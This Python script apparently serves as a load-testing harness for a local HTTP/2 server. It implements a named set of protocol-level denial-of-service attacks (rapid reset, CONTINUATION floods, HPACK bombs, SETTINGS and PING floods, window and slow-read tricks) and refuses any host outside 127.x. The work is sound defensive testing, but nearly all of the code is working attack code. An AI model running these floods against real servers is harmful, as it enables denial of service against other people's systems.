"""One attack on an HTTP/2 server of this machine, for some seconds; then a line of JSON about it.

    attack.py NAME HOST:PORT SECONDS

The greeting and the header blocks are the h2 and hpack packages'; frames that break the protocol are
hyperframe's or made by hand. A connection that the server ends is opened again until the time is over.
"""

import json
import socket
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
from hpack import Encoder

NAME, ADDRESS, SECONDS = sys.argv[1], sys.argv[2], float(sys.argv[3])
HOST, PORT = ADDRESS.rsplit(":", 1)
if not HOST.startswith("127."):
    sys.exit("attacks are for this machine only")
END = time.monotonic() + SECONDS
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
CONNECTIONS_MAX = 5_000

count = {"connections": 0, "frames": 0, "goaways": {}}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def running():
    return time.monotonic() < END and count["connections"] < CONNECTIONS_MAX


class Peer:
    """A connection after its greeting; a thread reads what comes, or nobody does."""

    def __init__(self, settings=None, reads=True):
        self.socket = socket.create_connection((HOST, int(PORT)), timeout=5)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        h2_side = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        if settings:
            h2_side.local_settings.update(settings)
        h2_side.initiate_connection()
        self.socket.sendall(h2_side.data_to_send())
        while not any(isinstance(event, h2.events.RemoteSettingsChanged)
                      for event in h2_side.receive_data(self.socket.recv(65536))):
            pass
        self.socket.sendall(h2_side.data_to_send())
        self.encoder = Encoder()
        self.stream = -1
        self.over = False
        count["connections"] += 1
        if reads:
            threading.Thread(target=self.read, daemon=True).start()

    def read(self):
        rest = b""
        try:
            while True:
                came = self.socket.recv(1 << 20)
                if not came:
                    break
                rest += came
                while len(rest) >= 9:
                    length = int.from_bytes(rest[:3], "big")
                    if len(rest) < 9 + length:
                        break
                    if rest[3] == 7:
                        code = str(int.from_bytes(rest[13:17], "big"))
                        count["goaways"][code] = count["goaways"].get(code, 0) + 1
                    rest = rest[9 + length:]
        except OSError:
            pass
        self.over = True

    def block(self, method="GET", path="/", more=()):
        return self.encoder.encode([(":method", method), (":scheme", "http"), (":path", path),
                                    (":authority", "a.example"), *more])

    def next(self):
        self.stream += 2
        return self.stream

    def send(self, frames):
        """False when the server has had enough."""
        if self.over:
            return False
        try:
            self.socket.sendall(b"".join(frames))
        except OSError:
            self.over = True
            return False
        count["frames"] += len(frames)
        return True

    def close(self):
        self.socket.close()


def again(attack, **how):
    """Attack on one connection after the other."""
    while running():
        try:
            peer = Peer(**how)
        except OSError:
            time.sleep(0.01)
            continue
        attack(peer)
        peer.close()


def rapid_reset(peer):
    going = peer.send([frame(HEADERS, END_STREAM | END_HEADERS, peer.next(), peer.block())])
    block = peer.block()
    while going and running():
        batch = []
        for _ in range(200):
            stream = peer.next()
            batch += [frame(HEADERS, END_STREAM | END_HEADERS, stream, block),
                      frame(RST, 0, stream, struct.pack(">I", 8))]
        going = peer.send(batch)


def made_you_reset(peer):
    """The server resets: a window too large, DATA against the length, a stream that depends on itself."""
    empty = [("content-length", "0")]
    going = peer.send([frame(HEADERS, END_STREAM | END_HEADERS, peer.next(), peer.block()),
                       frame(HEADERS, END_STREAM | END_HEADERS, peer.next(), peer.block("POST", more=empty))])
    get, post = peer.block(), peer.block("POST", more=empty)
    while going and running():
        batch = []
        for _ in range(70):
            stream = peer.next()
            batch += [frame(HEADERS, END_STREAM | END_HEADERS, stream, get),
                      frame(WINDOW, 0, stream, struct.pack(">I", 0x7FFFFFFF))]
            stream = peer.next()
            batch += [frame(HEADERS, END_HEADERS, stream, post), frame(DATA, 0, stream, b"x")]
            stream = peer.next()
            batch += [frame(HEADERS, END_STREAM | END_HEADERS, stream, get),
                      frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 1))]
        going = peer.send(batch)


def malformed(peer):
    """Requests whose frames are right and whose meaning is not."""
    close, space = [("connection", "close")], [("x-a", " 1")]
    going = peer.send([frame(HEADERS, END_STREAM | END_HEADERS, peer.next(), peer.block(more=close)),
                       frame(HEADERS, END_STREAM | END_HEADERS, peer.next(), peer.block(more=space))])
    block, padded = peer.block(more=close), peer.block(more=space)
    while going and running():
        batch = []
        for _ in range(100):
            batch += [frame(HEADERS, END_STREAM | END_HEADERS, peer.next(), block),
                      frame(HEADERS, END_STREAM | END_HEADERS, peer.next(), padded)]
        going = peer.send(batch)


def continuation_flood(peer):
    going = peer.send([frame(HEADERS, END_STREAM, 1, peer.block())])
    piece = frame(CONTINUATION, 0, 1, b"\x00\x03x-a\x0a0123456789" * 60)
    while going and running():
        going = peer.send([piece] * 100)


def empty_continuation(peer):
    going = peer.send([frame(HEADERS, END_STREAM, 1, peer.block())])
    while going and running():
        going = peer.send([frame(CONTINUATION, 0, 1)] * 500)


def empty_data(peer):
    going = peer.send([frame(HEADERS, END_HEADERS, 1, peer.block("POST"))])
    while going and running():
        going = peer.send([frame(DATA, 0, 1)] * 500)


def small_data(peer):
    """A byte of content in each frame, and a length of padding."""
    going = peer.send([frame(HEADERS, END_HEADERS, 1, peer.block("POST"))])
    while going and running():
        going = peer.send([frame(DATA, PADDED, 1, b"\x00x")] * 500)


def hpack_bomb(peer):
    """A large entry of the dynamic table, named thousands of times in each block."""
    big = peer.block(more=[("x-bomb", "b" * 3900)])
    going = peer.send([frame(HEADERS, END_STREAM | END_HEADERS, peer.next(), big)])
    block = peer.block() + b"\xbe" * 16_000
    while going and running():
        going = peer.send([frame(HEADERS, END_STREAM | END_HEADERS, peer.next(), block) for _ in range(5)])


def settings_flood(peer):
    values = b"".join(struct.pack(">HI", 4, size) for size in range(60_000, 60_100))
    going = True
    while going and running():
        going = peer.send([frame(SETTINGS, 0, 0, values)] * 50)


def ping_flood(peer):
    going = True
    while going and running():
        going = peer.send([frame(PING, 0, 0, b"pingpong")] * 1000)


def window_zero(peer):
    peer.send([frame(HEADERS, END_STREAM | END_HEADERS, 1, peer.block()), frame(WINDOW, 0, 1, b"\0\0\0\0")])
    time.sleep(0.002)


def window_overflow(peer):
    peer.send([frame(HEADERS, END_STREAM | END_HEADERS, 1, peer.block()),
               frame(WINDOW, 0, 0, b"\x7f\xff\xff\xff")])
    time.sleep(0.002)


def window_crumbs(peer):
    """Replies that are read byte by byte."""
    peer.send([frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1)), frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFF0000))])
    going = peer.send([frame(HEADERS, END_STREAM | END_HEADERS, peer.next(), peer.block(path="/big"))
                       for _ in range(50)])
    crumbs = [frame(WINDOW, 0, stream, b"\0\0\0\x01") for stream in range(1, 100, 2)]
    while going and running():
        going = peer.send(crumbs)


def priority_flood(peer):
    going = True
    stream = 1
    while going and running():
        batch = []
        for _ in range(1000):
            stream = stream % 0x3FFFFFFF + 2
            batch.append(frame(PRIORITY, 0, stream, struct.pack(">IB", stream - 1, 7)))
        going = peer.send(batch)


def nothing(_):
    """Takes the processor's time as an attack does, and sends nothing: what is left to others is the baseline."""
    while running():
        frame(PING, 0, 0, b"pingpong")


def hold(peers, seconds):
    time.sleep(max(0.0, min(seconds, END - time.monotonic())))
    for peer in peers:
        peer.close()


def slow_read():
    """Many streams whose replies have nowhere to go. A worker takes `edge.limits.in_flight` of them, 1024,
    before others wait; these are fewer."""
    peers = [Peer(settings={4: 0}) for _ in range(9)]
    for peer in peers:
        peer.send([frame(HEADERS, END_STREAM | END_HEADERS, peer.next(), peer.block(path="/big"))
                   for _ in range(100)])
    hold(peers, SECONDS)


def never_read():
    """Windows as large as can be, and a socket that nobody reads."""
    peers = [Peer(settings={4: 0x7FFFFFFF}, reads=False) for _ in range(9)]
    for peer in peers:
        peer.send([frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFF0000))])
        peer.send([frame(HEADERS, END_STREAM | END_HEADERS, peer.next(), peer.block(path="/big"))
                   for _ in range(100)])
    hold(peers, SECONDS)


def unread_pings():
    """Answers to PING that nobody reads."""
    peers = [Peer(reads=False) for _ in range(4)]
    for peer in peers:
        peer.socket.setblocking(False)
    batch = frame(PING, 0, 0, b"pingpong") * 1000
    while running():
        for peer in peers:
            try:
                peer.socket.send(batch)
                count["frames"] += 1000
            except OSError:
                pass
        time.sleep(0.001)
    hold(peers, 0)


def idle_uploads():
    """Requests whose bodies do not come."""
    peers = [Peer() for _ in range(9)]
    for peer in peers:
        peer.send([frame(HEADERS, END_HEADERS, peer.next(), peer.block("POST")) for _ in range(100)])
    hold(peers, SECONDS)


EACH = [nothing, rapid_reset, made_you_reset, malformed, continuation_flood, empty_continuation, empty_data, small_data,
        hpack_bomb, settings_flood, ping_flood, window_zero, window_overflow, window_crumbs, priority_flood]
AT_ONCE = [slow_read, never_read, unread_pings, idle_uploads]

by_name = {attack.__name__: attack for attack in EACH + AT_ONCE}
chosen = by_name[NAME]
if chosen in EACH:
    again(chosen)
else:
    chosen()
print(json.dumps(count))
